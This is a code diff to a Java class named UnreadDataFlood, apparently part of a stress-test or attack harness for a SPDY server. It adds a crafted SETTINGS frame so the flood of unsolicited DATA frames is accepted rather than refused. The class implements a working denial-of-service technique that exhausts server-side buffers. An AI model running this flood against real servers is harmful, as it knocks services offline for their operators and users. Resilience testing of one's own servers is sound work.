@@ -13,11 +13,14 @@ import java.util.Set;
 /**
  * An unauthenticated connection that sends empty DATA frames on streams it never opened, each of which the
  * server answers with a RST_STREAM, and never reads: a plain socket with a small receive buffer, so that
- * the server's answers pile up on its side. Reconnects when the server closes it, until the deadline.
+ * the server's answers pile up on its side. Reconnects when the server closes it, until the deadline. Each
+ * connection starts with an empty SETTINGS frame, whose control bit makes the port take it as SPDY (PROTOCOL.md
+ * §10); without it the DATA frames would read as a malformed HTTP/1.1 request, refused at once.
  */
 final class UnreadDataFlood implements Attack {
 
     private static final int RECEIVE_BUFFER_BYTES = 4096;
+    private static final byte[] EMPTY_SPDY_SETTINGS = {(byte) 0x80, 3, 0, 4, 0, 0, 0, 4, 0, 0, 0, 0};
 
     @Override
     public String name() {
@@ -55,6 +58,7 @@ final class UnreadDataFlood implements Attack {
             try (SocketChannel peer = SocketChannel.open()) {
                 peer.setOption(StandardSocketOptions.SO_RCVBUF, RECEIVE_BUFFER_BYTES);
                 peer.connect(new InetSocketAddress(target.host(), target.spdyPort()));
+                peer.write(ByteBuffer.wrap(EMPTY_SPDY_SETTINGS));
                 peer.configureBlocking(false);
                 long opened = System.nanoTime();
                 long taken = 0;
